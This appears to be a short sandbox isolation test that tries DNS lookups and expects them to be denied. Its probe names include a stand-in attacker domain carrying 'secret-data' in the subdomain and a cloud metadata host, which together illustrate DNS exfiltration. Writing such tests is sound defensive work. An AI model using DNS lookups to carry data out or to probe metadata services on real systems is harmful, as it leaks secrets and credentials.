# tries: to resolve names by DNS, which would carry data out
# expect: success
# holds: stdout has DENIED
import socket

socket.setdefaulttimeout(2)
for name in ("example.com", "secret-data.attacker.example", "pypi.org", "host.docker.internal", "metadata.google.internal"):
    try:
        print("LEAK:", name, "is", socket.getaddrinfo(name, 80)[0][4])
    except OSError as error:
        print("DENIED:", name, error)
